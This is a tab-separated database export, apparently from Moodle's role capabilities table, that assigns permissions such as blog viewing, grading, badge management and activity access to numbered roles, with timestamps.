199	1	7	moodle/blog:view	1	1795225902	0
200	1	5	moodle/blog:view	1	1795225902	0
201	1	4	moodle/blog:view	1	1795225902	0
202	1	3	moodle/blog:view	1	1795225902	0
203	1	1	moodle/blog:view	1	1795225902	0
204	1	6	moodle/blog:search	1	1795225902	0
205	1	7	moodle/blog:search	1	1795225902	0
206	1	5	moodle/blog:search	1	1795225902	0
207	1	4	moodle/blog:search	1	1795225902	0
208	1	3	moodle/blog:search	1	1795225902	0
209	1	1	moodle/blog:search	1	1795225902	0
210	1	1	moodle/blog:viewdrafts	1	1795225902	0
211	1	7	moodle/blog:create	1	1795225902	0
212	1	1	moodle/blog:create	1	1795225902	0
213	1	4	moodle/blog:manageentries	1	1795225902	0
214	1	3	moodle/blog:manageentries	1	1795225902	0
215	1	1	moodle/blog:manageentries	1	1795225903	0
216	1	5	moodle/blog:manageexternal	1	1795225903	0
217	1	7	moodle/blog:manageexternal	1	1795225903	0
218	1	4	moodle/blog:manageexternal	1	1795225903	0
219	1	3	moodle/blog:manageexternal	1	1795225903	0
220	1	1	moodle/blog:manageexternal	1	1795225903	0
221	1	7	moodle/calendar:manageownentries	1	1795225903	0
222	1	1	moodle/calendar:manageownentries	1	1795225903	0
223	1	4	moodle/calendar:managegroupentries	1	1795225903	0
224	1	3	moodle/calendar:managegroupentries	1	1795225903	0
225	1	12	moodle/calendar:managegroupentries	1	1795225903	0
226	1	13	moodle/calendar:managegroupentries	1	1795225903	0
227	1	1	moodle/calendar:managegroupentries	1	1795225903	0
228	1	4	moodle/calendar:manageentries	1	1795225903	0
229	1	3	moodle/calendar:manageentries	1	1795225903	0
230	1	12	moodle/calendar:manageentries	1	1795225903	0
231	1	13	moodle/calendar:manageentries	1	1795225903	0
232	1	1	moodle/calendar:manageentries	1	1795225903	0
233	1	1	moodle/user:editprofile	1	1795225903	0
234	1	6	moodle/user:editownprofile	-1000	1795225903	0
235	1	7	moodle/user:editownprofile	1	1795225903	0
236	1	1	moodle/user:editownprofile	1	1795225904	0
237	1	6	moodle/user:changeownpassword	-1000	1795225904	0
238	1	7	moodle/user:changeownpassword	1	1795225904	0
239	1	1	moodle/user:changeownpassword	1	1795225904	0
240	1	5	moodle/user:readuserposts	1	1795225904	0
241	1	4	moodle/user:readuserposts	1	1795225904	0
242	1	3	moodle/user:readuserposts	1	1795225904	0
243	1	1	moodle/user:readuserposts	1	1795225904	0
244	1	5	moodle/user:readuserblogs	1	1795225904	0
245	1	4	moodle/user:readuserblogs	1	1795225904	0
246	1	3	moodle/user:readuserblogs	1	1795225904	0
247	1	1	moodle/user:readuserblogs	1	1795225904	0
248	1	1	moodle/user:editmessageprofile	1	1795225904	0
249	1	6	moodle/user:editownmessageprofile	-1000	1795225904	0
250	1	7	moodle/user:editownmessageprofile	1	1795225904	0
251	1	1	moodle/user:editownmessageprofile	1	1795225904	0
252	1	3	moodle/question:managecategory	1	1795225904	0
253	1	1	moodle/question:managecategory	1	1795225904	0
254	1	3	moodle/question:add	1	1795225904	0
255	1	1	moodle/question:add	1	1795225904	0
256	1	3	moodle/question:editmine	1	1795225904	0
257	1	1	moodle/question:editmine	1	1795225905	0
258	1	3	moodle/question:editall	1	1795225905	0
259	1	1	moodle/question:editall	1	1795225905	0
260	1	3	moodle/question:viewmine	1	1795225905	0
261	1	1	moodle/question:viewmine	1	1795225905	0
262	1	3	moodle/question:viewall	1	1795225905	0
263	1	1	moodle/question:viewall	1	1795225905	0
264	1	3	moodle/question:usemine	1	1795225905	0
265	1	1	moodle/question:usemine	1	1795225905	0
266	1	3	moodle/question:useall	1	1795225905	0
267	1	1	moodle/question:useall	1	1795225905	0
268	1	3	moodle/question:movemine	1	1795225905	0
269	1	1	moodle/question:movemine	1	1795225905	0
270	1	3	moodle/question:moveall	1	1795225905	0
271	1	1	moodle/question:moveall	1	1795225905	0
272	1	1	moodle/question:config	1	1795225905	0
273	1	5	moodle/question:flag	1	1795225905	0
274	1	4	moodle/question:flag	1	1795225905	0
275	1	3	moodle/question:flag	1	1795225905	0
276	1	1	moodle/question:flag	1	1795225905	0
277	1	3	moodle/question:tagmine	1	1795225906	0
278	1	1	moodle/question:tagmine	1	1795225906	0
279	1	3	moodle/question:tagall	1	1795225906	0
280	1	1	moodle/question:tagall	1	1795225906	0
281	1	4	moodle/site:doclinks	1	1795225906	0
282	1	3	moodle/site:doclinks	1	1795225906	0
283	1	1	moodle/site:doclinks	1	1795225906	0
284	1	3	moodle/course:sectionvisibility	1	1795225906	0
285	1	12	moodle/course:sectionvisibility	1	1795225906	0
286	1	1	moodle/course:sectionvisibility	1	1795225906	0
287	1	3	moodle/course:useremail	1	1795225906	0
288	1	1	moodle/course:useremail	1	1795225906	0
289	1	3	moodle/course:viewhiddensections	1	1795225906	0
290	1	12	moodle/course:viewhiddensections	1	1795225906	0
291	1	1	moodle/course:viewhiddensections	1	1795225906	0
292	1	3	moodle/course:setcurrentsection	1	1795225906	0
293	1	12	moodle/course:setcurrentsection	1	1795225906	0
294	1	1	moodle/course:setcurrentsection	1	1795225906	0
295	1	3	moodle/course:movesections	1	1795225906	0
296	1	1	moodle/course:movesections	1	1795225906	0
297	1	4	moodle/grade:viewall	1	1795225907	0
298	1	3	moodle/grade:viewall	1	1795225907	0
299	1	12	moodle/grade:viewall	1	1795225907	0
300	1	13	moodle/grade:viewall	1	1795225907	0
301	1	1	moodle/grade:viewall	1	1795225907	0
302	1	5	moodle/grade:view	1	1795225907	0
303	1	4	moodle/grade:viewhidden	1	1795225907	0
304	1	3	moodle/grade:viewhidden	1	1795225907	0
305	1	12	moodle/grade:viewhidden	1	1795225907	0
306	1	13	moodle/grade:viewhidden	1	1795225907	0
307	1	1	moodle/grade:viewhidden	1	1795225907	0
308	1	3	moodle/grade:import	1	1795225907	0
309	1	1	moodle/grade:import	1	1795225907	0
310	1	4	moodle/grade:export	1	1795225907	0
311	1	3	moodle/grade:export	1	1795225907	0
312	1	1	moodle/grade:export	1	1795225907	0
313	1	3	moodle/grade:manage	1	1795225907	0
314	1	12	moodle/grade:manage	1	1795225907	0
315	1	1	moodle/grade:manage	1	1795225907	0
316	1	3	moodle/grade:edit	1	1795225907	0
317	1	12	moodle/grade:edit	1	1795225908	0
318	1	1	moodle/grade:edit	1	1795225908	0
319	1	3	moodle/grade:managegradingforms	1	1795225908	0
320	1	12	moodle/grade:managegradingforms	1	1795225908	0
321	1	1	moodle/grade:managegradingforms	1	1795225908	0
322	1	1	moodle/grade:sharegradingforms	1	1795225908	0
323	1	1	moodle/grade:managesharedforms	1	1795225908	0
324	1	3	moodle/grade:manageoutcomes	1	1795225908	0
325	1	12	moodle/grade:manageoutcomes	1	1795225908	0
326	1	1	moodle/grade:manageoutcomes	1	1795225908	0
327	1	3	moodle/grade:manageletters	1	1795225908	0
328	1	12	moodle/grade:manageletters	1	1795225908	0
329	1	1	moodle/grade:manageletters	1	1795225908	0
330	1	3	moodle/grade:hide	1	1795225908	0
331	1	12	moodle/grade:hide	1	1795225908	0
332	1	1	moodle/grade:hide	1	1795225908	0
333	1	3	moodle/grade:lock	1	1795225908	0
334	1	12	moodle/grade:lock	1	1795225908	0
335	1	1	moodle/grade:lock	1	1795225908	0
336	1	3	moodle/grade:unlock	1	1795225908	0
337	1	12	moodle/grade:unlock	1	1795225909	0
338	1	1	moodle/grade:unlock	1	1795225909	0
339	1	7	moodle/my:manageblocks	1	1795225909	0
340	1	4	moodle/notes:view	1	1795225909	0
341	1	3	moodle/notes:view	1	1795225909	0
342	1	12	moodle/notes:view	1	1795225909	0
343	1	13	moodle/notes:view	1	1795225909	0
344	1	1	moodle/notes:view	1	1795225909	0
345	1	4	moodle/notes:manage	1	1795225909	0
346	1	3	moodle/notes:manage	1	1795225909	0
347	1	12	moodle/notes:manage	1	1795225909	0
348	1	13	moodle/notes:manage	1	1795225909	0
349	1	1	moodle/notes:manage	1	1795225909	0
350	1	1	moodle/tag:manage	1	1795225909	0
351	1	1	moodle/tag:edit	1	1795225909	0
352	1	7	moodle/tag:flag	1	1795225909	0
353	1	4	moodle/tag:editblocks	1	1795225909	0
354	1	3	moodle/tag:editblocks	1	1795225909	0
355	1	1	moodle/tag:editblocks	1	1795225909	0
356	1	6	moodle/block:view	1	1795225909	0
357	1	7	moodle/block:view	1	1795225910	0
358	1	5	moodle/block:view	1	1795225910	0
359	1	4	moodle/block:view	1	1795225910	0
360	1	3	moodle/block:view	1	1795225910	0
361	1	12	moodle/block:view	1	1795225910	0
362	1	13	moodle/block:view	1	1795225910	0
363	1	3	moodle/block:edit	1	1795225910	0
364	1	12	moodle/block:edit	1	1795225910	0
365	1	1	moodle/block:edit	1	1795225910	0
366	1	7	moodle/portfolio:export	1	1795225910	0
367	1	5	moodle/portfolio:export	1	1795225910	0
368	1	4	moodle/portfolio:export	1	1795225910	0
369	1	3	moodle/portfolio:export	1	1795225910	0
370	1	8	moodle/comment:view	1	1795225910	0
371	1	6	moodle/comment:view	1	1795225910	0
372	1	7	moodle/comment:view	1	1795225910	0
373	1	5	moodle/comment:view	1	1795225910	0
374	1	4	moodle/comment:view	1	1795225910	0
375	1	3	moodle/comment:view	1	1795225910	0
376	1	1	moodle/comment:view	1	1795225910	0
377	1	7	moodle/comment:post	1	1795225910	0
378	1	5	moodle/comment:post	1	1795225911	0
379	1	4	moodle/comment:post	1	1795225911	0
380	1	3	moodle/comment:post	1	1795225911	0
381	1	1	moodle/comment:post	1	1795225911	0
382	1	3	moodle/comment:delete	1	1795225911	0
383	1	1	moodle/comment:delete	1	1795225911	0
384	1	1	moodle/webservice:createtoken	1	1795225911	0
385	1	7	moodle/webservice:createmobiletoken	1	1795225911	0
386	1	7	moodle/rating:view	1	1795225911	0
387	1	5	moodle/rating:view	1	1795225911	0
388	1	4	moodle/rating:view	1	1795225911	0
389	1	3	moodle/rating:view	1	1795225911	0
390	1	12	moodle/rating:view	1	1795225911	0
391	1	13	moodle/rating:view	1	1795225911	0
392	1	1	moodle/rating:view	1	1795225911	0
393	1	7	moodle/rating:viewany	1	1795225911	0
394	1	5	moodle/rating:viewany	1	1795225911	0
395	1	4	moodle/rating:viewany	1	1795225911	0
396	1	3	moodle/rating:viewany	1	1795225912	0
397	1	12	moodle/rating:viewany	1	1795225912	0
398	1	13	moodle/rating:viewany	1	1795225912	0
399	1	1	moodle/rating:viewany	1	1795225912	0
400	1	7	moodle/rating:viewall	1	1795225912	0
401	1	5	moodle/rating:viewall	1	1795225912	0
402	1	4	moodle/rating:viewall	1	1795225912	0
403	1	3	moodle/rating:viewall	1	1795225912	0
404	1	12	moodle/rating:viewall	1	1795225912	0
405	1	13	moodle/rating:viewall	1	1795225912	0
406	1	1	moodle/rating:viewall	1	1795225912	0
407	1	7	moodle/rating:rate	1	1795225913	0
408	1	5	moodle/rating:rate	1	1795225913	0
409	1	4	moodle/rating:rate	1	1795225913	0
410	1	3	moodle/rating:rate	1	1795225913	0
411	1	12	moodle/rating:rate	1	1795225913	0
412	1	13	moodle/rating:rate	1	1795225913	0
413	1	1	moodle/rating:rate	1	1795225913	0
414	1	4	moodle/course:markcomplete	1	1795225913	0
415	1	3	moodle/course:markcomplete	1	1795225913	0
416	1	12	moodle/course:markcomplete	1	1795225913	0
417	1	13	moodle/course:markcomplete	1	1795225913	0
418	1	1	moodle/course:markcomplete	1	1795225913	0
419	1	4	moodle/course:overridecompletion	1	1795225913	0
420	1	3	moodle/course:overridecompletion	1	1795225913	0
421	1	1	moodle/course:overridecompletion	1	1795225913	0
422	1	1	moodle/badges:manageglobalsettings	1	1795225913	0
423	1	7	moodle/badges:viewbadges	1	1795225913	0
424	1	7	moodle/badges:manageownbadges	1	1795225913	0
425	1	7	moodle/badges:viewotherbadges	1	1795225913	0
426	1	7	moodle/badges:earnbadge	1	1795225914	0
427	1	1	moodle/badges:createbadge	1	1795225914	0
428	1	3	moodle/badges:createbadge	1	1795225914	0
429	1	1	moodle/badges:deletebadge	1	1795225914	0
430	1	3	moodle/badges:deletebadge	1	1795225914	0
431	1	1	moodle/badges:configuredetails	1	1795225914	0
432	1	3	moodle/badges:configuredetails	1	1795225914	0
433	1	1	moodle/badges:configurecriteria	1	1795225914	0
434	1	3	moodle/badges:configurecriteria	1	1795225914	0
435	1	1	moodle/badges:configuremessages	1	1795225914	0
436	1	3	moodle/badges:configuremessages	1	1795225914	0
437	1	1	moodle/badges:awardbadge	1	1795225914	0
438	1	4	moodle/badges:awardbadge	1	1795225914	0
439	1	3	moodle/badges:awardbadge	1	1795225914	0
440	1	1	moodle/badges:revokebadge	1	1795225914	0
441	1	4	moodle/badges:revokebadge	1	1795225914	0
442	1	3	moodle/badges:revokebadge	1	1795225914	0
443	1	1	moodle/badges:viewawarded	1	1795225914	0
444	1	4	moodle/badges:viewawarded	1	1795225914	0
445	1	3	moodle/badges:viewawarded	1	1795225915	0
446	1	6	moodle/search:query	1	1795225915	0
447	1	7	moodle/search:query	1	1795225915	0
448	1	5	moodle/search:query	1	1795225915	0
449	1	4	moodle/search:query	1	1795225915	0
450	1	3	moodle/search:query	1	1795225915	0
451	1	1	moodle/search:query	1	1795225915	0
452	1	1	moodle/competency:competencymanage	1	1795225915	0
453	1	10	moodle/competency:competencymanage	1	1795225915	0
454	1	9	moodle/competency:competencymanage	1	1795225915	0
455	1	7	moodle/competency:competencyview	1	1795225915	0
456	1	10	moodle/competency:competencyview	1	1795225915	0
457	1	9	moodle/competency:competencyview	1	1795225915	0
458	1	3	moodle/competency:competencygrade	1	1795225915	0
459	1	4	moodle/competency:competencygrade	1	1795225915	0
460	1	12	moodle/competency:competencygrade	1	1795225915	0
461	1	13	moodle/competency:competencygrade	1	1795225915	0
462	1	1	moodle/competency:competencygrade	1	1795225915	0
463	1	3	moodle/competency:coursecompetencymanage	1	1795225915	0
464	1	12	moodle/competency:coursecompetencymanage	1	1795225915	0
465	1	1	moodle/competency:coursecompetencymanage	1	1795225915	0
466	1	1	moodle/competency:coursecompetencyconfigure	1	1795225916	0
467	1	5	moodle/competency:coursecompetencygradable	1	1795225916	0
468	1	7	moodle/competency:coursecompetencyview	1	1795225916	0
469	1	1	moodle/competency:planmanage	1	1795225916	0
470	1	10	moodle/competency:planmanage	1	1795225916	0
471	1	9	moodle/competency:planmanage	1	1795225916	0
472	1	1	moodle/competency:planmanagedraft	1	1795225916	0
473	1	1	moodle/competency:planview	1	1795225916	0
474	1	10	moodle/competency:planview	1	1795225916	0
475	1	9	moodle/competency:planview	1	1795225916	0
476	1	1	moodle/competency:planviewdraft	1	1795225916	0
477	1	7	moodle/competency:planviewown	1	1795225916	0
478	1	1	moodle/competency:planrequestreview	1	1795225916	0
479	1	7	moodle/competency:planrequestreviewown	1	1795225916	0
480	1	1	moodle/competency:planreview	1	1795225916	0
481	1	10	moodle/competency:planreview	1	1795225916	0
482	1	9	moodle/competency:planreview	1	1795225916	0
483	1	1	moodle/competency:plancomment	1	1795225916	0
484	1	10	moodle/competency:plancomment	1	1795225916	0
485	1	9	moodle/competency:plancomment	1	1795225917	0
486	1	7	moodle/competency:plancommentown	1	1795225917	0
487	1	1	moodle/competency:usercompetencyview	1	1795225917	0
488	1	3	moodle/competency:usercompetencyview	1	1795225917	0
489	1	4	moodle/competency:usercompetencyview	1	1795225917	0
490	1	10	moodle/competency:usercompetencyview	1	1795225917	0
491	1	9	moodle/competency:usercompetencyview	1	1795225917	0
492	1	1	moodle/competency:usercompetencyrequestreview	1	1795225917	0
493	1	7	moodle/competency:usercompetencyrequestreviewown	1	1795225917	0
494	1	1	moodle/competency:usercompetencyreview	1	1795225917	0
495	1	10	moodle/competency:usercompetencyreview	1	1795225917	0
496	1	9	moodle/competency:usercompetencyreview	1	1795225917	0
497	1	1	moodle/competency:usercompetencycomment	1	1795225917	0
498	1	10	moodle/competency:usercompetencycomment	1	1795225917	0
499	1	9	moodle/competency:usercompetencycomment	1	1795225917	0
500	1	7	moodle/competency:usercompetencycommentown	1	1795225917	0
501	1	1	moodle/competency:templatemanage	1	1795225917	0
502	1	10	moodle/competency:templatemanage	1	1795225917	0
503	1	9	moodle/competency:templatemanage	1	1795225917	0
504	1	4	moodle/analytics:listinsights	1	1795225917	0
505	1	3	moodle/analytics:listinsights	1	1795225917	0
506	1	1	moodle/analytics:listinsights	1	1795225917	0
507	1	1	moodle/analytics:managemodels	1	1795225917	0
508	1	1	moodle/competency:templateview	1	1795225918	0
509	1	10	moodle/competency:templateview	1	1795225918	0
510	1	9	moodle/competency:templateview	1	1795225918	0
511	1	1	moodle/competency:userevidencemanage	1	1795225918	0
512	1	10	moodle/competency:userevidencemanage	1	1795225918	0
513	1	9	moodle/competency:userevidencemanage	1	1795225918	0
514	1	7	moodle/competency:userevidencemanageown	1	1795225918	0
515	1	1	moodle/competency:userevidenceview	1	1795225918	0
516	1	10	moodle/competency:userevidenceview	1	1795225918	0
517	1	9	moodle/competency:userevidenceview	1	1795225918	0
518	1	4	moodle/site:messageanyuser	1	1795225918	0
519	1	3	moodle/site:messageanyuser	1	1795225918	0
520	1	1	moodle/site:messageanyuser	1	1795225918	0
521	1	7	moodle/course:togglecompletion	1	1795225918	0
522	1	7	moodle/analytics:listowninsights	1	1795225918	0
523	1	3	moodle/h5p:setdisplayoptions	1	1795225918	0
524	1	1	moodle/h5p:deploy	1	1795225919	0
525	1	3	moodle/h5p:deploy	1	1795225919	0
526	1	1	moodle/h5p:updatelibraries	1	1795225919	0
527	1	1	moodle/course:recommendactivity	1	1795225919	0
528	1	1	moodle/contentbank:access	1	1795225919	0
529	1	2	moodle/contentbank:access	1	1795225919	0
530	1	3	moodle/contentbank:access	1	1795225919	0
531	1	1	moodle/contentbank:upload	1	1795225919	0
532	1	2	moodle/contentbank:upload	1	1795225919	0
533	1	3	moodle/contentbank:upload	1	1795225919	0
534	1	1	moodle/contentbank:deleteanycontent	1	1795225919	0
535	1	2	moodle/contentbank:deleteanycontent	1	1795225919	0
536	1	7	moodle/contentbank:deleteowncontent	1	1795225919	0
537	1	1	moodle/contentbank:manageanycontent	1	1795225919	0
538	1	2	moodle/contentbank:manageanycontent	1	1795225919	0
539	1	1	moodle/contentbank:manageowncontent	1	1795225919	0
540	1	2	moodle/contentbank:manageowncontent	1	1795225919	0
541	1	3	moodle/contentbank:manageowncontent	1	1795225919	0
542	1	1	moodle/contentbank:useeditor	1	1795225920	0
543	1	2	moodle/contentbank:useeditor	1	1795225920	0
544	1	3	moodle/contentbank:useeditor	1	1795225920	0
545	1	1	moodle/contentbank:downloadcontent	1	1795225920	0
546	1	2	moodle/contentbank:downloadcontent	1	1795225920	0
547	1	3	moodle/contentbank:downloadcontent	1	1795225920	0
548	1	5	moodle/course:downloadcoursecontent	1	1795225920	0
549	1	4	moodle/course:downloadcoursecontent	1	1795225920	0
550	1	3	moodle/course:downloadcoursecontent	1	1795225920	0
551	1	1	moodle/course:downloadcoursecontent	1	1795225920	0
552	1	3	moodle/course:configuredownloadcontent	1	1795225920	0
553	1	1	moodle/course:configuredownloadcontent	1	1795225920	0
554	1	1	moodle/contentbank:viewunlistedcontent	1	1795225920	0
555	1	2	moodle/contentbank:viewunlistedcontent	1	1795225920	0
556	1	7	moodle/reportbuilder:view	1	1795225920	0
557	1	1	moodle/reportbuilder:edit	1	1795225920	0
558	1	5	qtype/recordrtc:downloadrecordings	1	1795225959	0
559	1	4	qtype/recordrtc:downloadrecordings	1	1795225959	0
560	1	3	qtype/recordrtc:downloadrecordings	1	1795225959	0
561	1	1	qtype/recordrtc:downloadrecordings	1	1795225959	0
562	1	6	mod/assign:view	1	1795225960	0
563	1	5	mod/assign:view	1	1795225960	0
564	1	4	mod/assign:view	1	1795225960	0
565	1	3	mod/assign:view	1	1795225960	0
566	1	12	mod/assign:view	1	1795225960	0
567	1	13	mod/assign:view	1	1795225960	0
568	1	1	mod/assign:view	1	1795225960	0
569	1	5	mod/assign:submit	1	1795225960	0
570	1	4	mod/assign:grade	1	1795225960	0
571	1	3	mod/assign:grade	1	1795225960	0
572	1	12	mod/assign:grade	1	1795225960	0
573	1	13	mod/assign:grade	1	1795225960	0
574	1	1	mod/assign:grade	1	1795225960	0
575	1	4	mod/assign:exportownsubmission	1	1795225960	0
576	1	3	mod/assign:exportownsubmission	1	1795225960	0
577	1	12	mod/assign:exportownsubmission	1	1795225960	0
578	1	13	mod/assign:exportownsubmission	1	1795225960	0
579	1	1	mod/assign:exportownsubmission	1	1795225960	0
580	1	5	mod/assign:exportownsubmission	1	1795225960	0
581	1	3	mod/assign:addinstance	1	1795225960	0
582	1	12	mod/assign:addinstance	1	1795225960	0
583	1	1	mod/assign:addinstance	1	1795225960	0
584	1	4	mod/assign:grantextension	1	1795225960	0
585	1	3	mod/assign:grantextension	1	1795225960	0
586	1	12	mod/assign:grantextension	1	1795225960	0
587	1	13	mod/assign:grantextension	1	1795225960	0
588	1	1	mod/assign:grantextension	1	1795225960	0
589	1	3	mod/assign:revealidentities	1	1795225960	0
590	1	12	mod/assign:revealidentities	1	1795225960	0
591	1	1	mod/assign:revealidentities	1	1795225960	0
592	1	3	mod/assign:reviewgrades	1	1795225960	0
593	1	12	mod/assign:reviewgrades	1	1795225960	0
594	1	1	mod/assign:reviewgrades	1	1795225960	0
595	1	3	mod/assign:releasegrades	1	1795225960	0
596	1	12	mod/assign:releasegrades	1	1795225960	0
597	1	1	mod/assign:releasegrades	1	1795225960	0
598	1	3	mod/assign:managegrades	1	1795225960	0
599	1	12	mod/assign:managegrades	1	1795225960	0
600	1	1	mod/assign:managegrades	1	1795225960	0
601	1	3	mod/assign:manageallocations	1	1795225960	0
602	1	12	mod/assign:manageallocations	1	1795225960	0
603	1	1	mod/assign:manageallocations	1	1795225960	0
604	1	3	mod/assign:viewgrades	1	1795225960	0
605	1	12	mod/assign:viewgrades	1	1795225960	0
606	1	13	mod/assign:viewgrades	1	1795225960	0
607	1	1	mod/assign:viewgrades	1	1795225960	0
608	1	4	mod/assign:viewgrades	1	1795225960	0
609	1	1	mod/assign:viewblinddetails	1	1795225960	0
610	1	4	mod/assign:receivegradernotifications	1	1795225960	0
611	1	3	mod/assign:receivegradernotifications	1	1795225960	0
612	1	12	mod/assign:receivegradernotifications	1	1795225960	0
613	1	13	mod/assign:receivegradernotifications	1	1795225960	0
614	1	1	mod/assign:receivegradernotifications	1	1795225961	0
615	1	3	mod/assign:manageoverrides	1	1795225961	0
616	1	12	mod/assign:manageoverrides	1	1795225961	0
617	1	1	mod/assign:manageoverrides	1	1795225961	0
618	1	4	mod/assign:showhiddengrader	1	1795225961	0
619	1	3	mod/assign:showhiddengrader	1	1795225961	0
620	1	1	mod/assign:showhiddengrader	1	1795225961	0
621	1	5	mod/assign:viewownsubmissionsummary	1	1795225961	0
622	1	6	mod/assignment:view	1	1795225961	0
623	1	5	mod/assignment:view	1	1795225961	0
624	1	4	mod/assignment:view	1	1795225961	0
625	1	3	mod/assignment:view	1	1795225961	0
626	1	1	mod/assignment:view	1	1795225961	0
627	1	3	mod/assignment:addinstance	1	1795225961	0
628	1	12	mod/assignment:addinstance	1	1795225961	0
629	1	1	mod/assignment:addinstance	1	1795225961	0
630	1	5	mod/assignment:submit	1	1795225961	0
631	1	4	mod/assignment:grade	1	1795225961	0
632	1	3	mod/assignment:grade	1	1795225961	0
633	1	1	mod/assignment:grade	1	1795225961	0
634	1	4	mod/assignment:exportownsubmission	1	1795225961	0
635	1	3	mod/assignment:exportownsubmission	1	1795225961	0
636	1	1	mod/assignment:exportownsubmission	1	1795225961	0
637	1	5	mod/assignment:exportownsubmission	1	1795225961	0
638	1	3	mod/bigbluebuttonbn:addinstance	1	1795225962	0
639	1	12	mod/bigbluebuttonbn:addinstance	1	1795225962	0
640	1	1	mod/bigbluebuttonbn:addinstance	1	1795225962	0
641	1	3	mod/bigbluebuttonbn:addinstancewithmeeting	1	1795225962	0
642	1	12	mod/bigbluebuttonbn:addinstancewithmeeting	1	1795225962	0
643	1	1	mod/bigbluebuttonbn:addinstancewithmeeting	1	1795225962	0
644	1	3	mod/bigbluebuttonbn:addinstancewithrecording	1	1795225962	0
645	1	12	mod/bigbluebuttonbn:addinstancewithrecording	1	1795225962	0
646	1	1	mod/bigbluebuttonbn:addinstancewithrecording	1	1795225962	0
647	1	1	mod/bigbluebuttonbn:join	1	1795225962	0
648	1	3	mod/bigbluebuttonbn:join	1	1795225962	0
649	1	4	mod/bigbluebuttonbn:join	1	1795225962	0
650	1	5	mod/bigbluebuttonbn:join	1	1795225962	0
651	1	6	mod/bigbluebuttonbn:join	1	1795225962	0
652	1	5	mod/bigbluebuttonbn:view	1	1795225962	0
653	1	4	mod/bigbluebuttonbn:view	1	1795225962	0
654	1	3	mod/bigbluebuttonbn:view	1	1795225962	0
655	1	1	mod/bigbluebuttonbn:view	1	1795225962	0
656	1	1	mod/bigbluebuttonbn:managerecordings	1	1795225962	0
657	1	3	mod/bigbluebuttonbn:managerecordings	1	1795225962	0
658	1	1	mod/bigbluebuttonbn:publishrecordings	1	1795225962	0
659	1	3	mod/bigbluebuttonbn:publishrecordings	1	1795225963	0
660	1	1	mod/bigbluebuttonbn:unpublishrecordings	1	1795225963	0
661	1	3	mod/bigbluebuttonbn:unpublishrecordings	1	1795225963	0
662	1	1	mod/bigbluebuttonbn:protectrecordings	1	1795225963	0
663	1	3	mod/bigbluebuttonbn:protectrecordings	1	1795225963	0
664	1	1	mod/bigbluebuttonbn:unprotectrecordings	1	1795225963	0
665	1	3	mod/bigbluebuttonbn:unprotectrecordings	1	1795225963	0
666	1	1	mod/bigbluebuttonbn:deleterecordings	1	1795225963	0
667	1	3	mod/bigbluebuttonbn:deleterecordings	1	1795225963	0
668	1	1	mod/bigbluebuttonbn:importrecordings	1	1795225963	0
669	1	3	mod/bigbluebuttonbn:importrecordings	1	1795225963	0
670	1	3	mod/book:addinstance	1	1795225963	0
671	1	12	mod/book:addinstance	1	1795225963	0
672	1	1	mod/book:addinstance	1	1795225963	0
673	1	6	mod/book:read	1	1795225963	0
674	1	8	mod/book:read	1	1795225963	0
675	1	5	mod/book:read	1	1795225963	0
676	1	4	mod/book:read	1	1795225963	0
677	1	12	mod/book:read	1	1795225963	0
678	1	13	mod/book:read	1	1795225963	0
679	1	3	mod/book:read	1	1795225963	0
680	1	1	mod/book:read	1	1795225963	0
681	1	4	mod/book:viewhiddenchapters	1	1795225963	0
682	1	3	mod/book:viewhiddenchapters	1	1795225963	0
683	1	12	mod/book:viewhiddenchapters	1	1795225963	0
684	1	1	mod/book:viewhiddenchapters	1	1795225964	0
685	1	3	mod/book:edit	1	1795225964	0
686	1	12	mod/book:edit	1	1795225964	0
687	1	1	mod/book:edit	1	1795225964	0
688	1	3	mod/chat:addinstance	1	1795225964	0
689	1	12	mod/chat:addinstance	1	1795225964	0
690	1	1	mod/chat:addinstance	1	1795225964	0
691	1	5	mod/chat:chat	1	1795225964	0
692	1	4	mod/chat:chat	1	1795225964	0
693	1	3	mod/chat:chat	1	1795225964	0
694	1	1	mod/chat:chat	1	1795225964	0
695	1	5	mod/chat:readlog	1	1795225964	0
696	1	4	mod/chat:readlog	1	1795225964	0
697	1	3	mod/chat:readlog	1	1795225964	0
698	1	1	mod/chat:readlog	1	1795225964	0
699	1	4	mod/chat:deletelog	1	1795225964	0
700	1	3	mod/chat:deletelog	1	1795225964	0
701	1	1	mod/chat:deletelog	1	1795225964	0
702	1	4	mod/chat:exportparticipatedsession	1	1795225964	0
703	1	3	mod/chat:exportparticipatedsession	1	1795225964	0
704	1	1	mod/chat:exportparticipatedsession	1	1795225964	0
705	1	4	mod/chat:exportsession	1	1795225964	0
706	1	3	mod/chat:exportsession	1	1795225964	0
707	1	1	mod/chat:exportsession	1	1795225964	0
708	1	7	mod/chat:view	1	1795225964	0
709	1	6	mod/chat:view	1	1795225964	0
710	1	3	mod/choice:addinstance	1	1795225964	0
711	1	12	mod/choice:addinstance	1	1795225964	0
712	1	1	mod/choice:addinstance	1	1795225964	0
713	1	5	mod/choice:choose	1	1795225965	0
714	1	4	mod/choice:choose	1	1795225965	0
715	1	3	mod/choice:choose	1	1795225965	0
716	1	12	mod/choice:choose	1	1795225965	0
717	1	13	mod/choice:choose	1	1795225965	0
718	1	4	mod/choice:readresponses	1	1795225965	0
719	1	3	mod/choice:readresponses	1	1795225965	0
720	1	12	mod/choice:readresponses	1	1795225965	0
721	1	13	mod/choice:readresponses	1	1795225965	0
722	1	1	mod/choice:readresponses	1	1795225965	0
723	1	4	mod/choice:deleteresponses	1	1795225965	0
724	1	3	mod/choice:deleteresponses	1	1795225965	0
725	1	12	mod/choice:deleteresponses	1	1795225965	0
726	1	13	mod/choice:deleteresponses	1	1795225965	0
727	1	1	mod/choice:deleteresponses	1	1795225965	0
728	1	4	mod/choice:downloadresponses	1	1795225965	0
729	1	3	mod/choice:downloadresponses	1	1795225965	0
730	1	12	mod/choice:downloadresponses	1	1795225965	0
731	1	13	mod/choice:downloadresponses	1	1795225965	0
732	1	1	mod/choice:downloadresponses	1	1795225965	0
733	1	7	mod/choice:view	1	1795225965	0
734	1	6	mod/choice:view	1	1795225965	0
735	1	3	mod/data:addinstance	1	1795225965	0
736	1	12	mod/data:addinstance	1	1795225965	0
737	1	1	mod/data:addinstance	1	1795225965	0
738	1	8	mod/data:viewentry	1	1795225965	0
739	1	6	mod/data:viewentry	1	1795225965	0
740	1	5	mod/data:viewentry	1	1795225965	0
741	1	4	mod/data:viewentry	1	1795225965	0
742	1	3	mod/data:viewentry	1	1795225965	0
743	1	1	mod/data:viewentry	1	1795225965	0
744	1	5	mod/data:writeentry	1	1795225965	0
745	1	4	mod/data:writeentry	1	1795225965	0
746	1	3	mod/data:writeentry	1	1795225965	0
747	1	1	mod/data:writeentry	1	1795225965	0
